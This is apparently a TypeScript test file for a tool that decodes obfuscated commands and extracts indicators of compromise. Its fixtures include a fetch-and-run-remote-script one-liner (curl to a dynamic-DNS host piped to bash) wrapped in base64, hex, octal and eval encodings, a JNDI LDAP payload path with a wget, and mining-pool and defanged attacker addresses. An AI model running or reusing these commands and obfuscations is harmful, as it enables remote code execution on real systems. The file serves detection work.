import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { processorTime } from '../../test/fixtures/processor-time.ts';
import { decodeText } from './decode.ts';
import { extractIndicators } from './extract.ts';

const command = 'curl -s http://x.ddns.net/a.sh | bash';
const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');

test('each encoding is undone', () => {
  const hex = Buffer.from(command).toString('hex');
  const bytes = [...Buffer.from(command)];
  for (const [text, how] of [
    [`echo ${base64(command)} | base64 -d | sh`, 'base64'],
    [`echo ${base64(gzipSync(command))} | base64 -d | zcat`, 'base64 gzip'],
    [`xxd -r -p <<< ${hex}`, 'hex'],
    [`printf '${bytes.map((byte) => '\\x' + byte.toString(16).padStart(2, '0')).join('')}'`, 'escapes'],
    [`printf '${bytes.map((byte) => '\\' + byte.toString(8).padStart(3, '0')).join('')}'`, 'octal'],
    [`exec(bytes([${bytes.join(', ')}]))`, 'codes'],
    [`eval(${bytes.map((byte) => `chr(${byte})`).join('.')});`, 'chr'],
    [`GET /?c=${bytes.map((byte) => '%' + byte.toString(16).padStart(2, '0')).join('')}`, 'percent'],
  ] as const) {
    const [decoded] = decodeText(text).filter((one) => one.text === command);
    assert.equal(decoded?.how, how, text);
    assert.ok((decoded?.offset ?? 0) > 0 && (decoded?.offset ?? 0) < 20);
  }
});

test('encodings inside encodings are undone to a fixed depth', () => {
  let text = command;
  for (let round = 0; round < 3; round++) text = base64(text);
  assert.equal(decodeText(text).at(-1)?.text, command);
  for (let round = 0; round < 3; round++) text = base64(text);
  assert.ok(decodeText(text).every((one) => one.text !== command));
});

test('wrapped base64 is one piece', () => {
  const long = `${command} # ${'comment '.repeat(30)}`;
  const wrapped = base64(long).replace(/(.{76})/g, '$1\n');
  assert.ok(decodeText(`base64 -d <<E\n${wrapped}\nE`).some((one) => one.text === long));
});

test('the last part of a path is decoded by itself', () => {
  const path = `ldap://192.0.2.1:1389/Basic/Command/Base64/${base64('wget http://192.0.2.1/x')}`;
  assert.deepEqual(
    decodeText(path).map(({ text }) => text),
    ['wget http://192.0.2.1/x'],
  );
});

test('reversed URLs are turned', () => {
  assert.equal(decodeText("echo 'hs.a/ten.sndd.x//:ptth' | rev")[0]?.text, 'http://x.ddns.net/a.sh');
});

test('words, paths and hashes are no encodings', () => {
  assert.deepEqual(
    decodeText(
      '/usr/lib/x86_64-linux-gnu/libsomething/internationalization '.repeat(3) +
        'd41d8cd98f00b204e9800998ecf8427e',
    ),
    [],
  );
});

test('a gzip bomb in base64 is left alone', () => {
  assert.deepEqual(decodeText(base64(gzipSync(Buffer.alloc(64 << 20)))), []);
});

test('indicators are found as written, defanged and encoded, each once', () => {
  const text = `hxxp://evil[.]duckdns[.]org/x and ${base64(command)} from 45.9.148.21 to pool.minexmr.com:4444 (version 1.2.3.4)`;
  assert.deepEqual(
    extractIndicators(text).map((one) => [one.type, one.value, one.note]),
    [
      ['url', 'http://evil.duckdns.org/x', 'http'],
      ['domain', 'evil.duckdns.org', 'url'],
      ['url', 'http://x.ddns.net/a.sh', 'decoded'],
      ['domain', 'x.ddns.net', 'decoded'],
      ['ip', '45.9.148.21', 'bare'],
      ['domain', 'pool.minexmr.com', 'bare'],
    ].sort((a, b) => extractOrder(text, a[1]!) - extractOrder(text, b[1]!)),
  );
});

/** Where a value begins in the text; what was decoded, where its encoding begins. */
function extractOrder(text: string, value: string): number {
  const at = text.indexOf(value);
  return value.includes('evil') ? 0 : at >= 0 ? at : text.indexOf(base64(command));
}

test('hostile text costs linear time', () => {
  const used = processorTime();
  for (const text of [
    'A',
    '\\x41',
    'a.',
    '1,',
    '12, ',
    'chr(65)+',
    '%41',
    'AAAA\n',
    '/:',
    '0a',
    'x//:ptt',
    '1.',
  ]) {
    extractIndicators(text.repeat(400_000 / text.length));
  }
  assert.ok(used() < 8000);
});
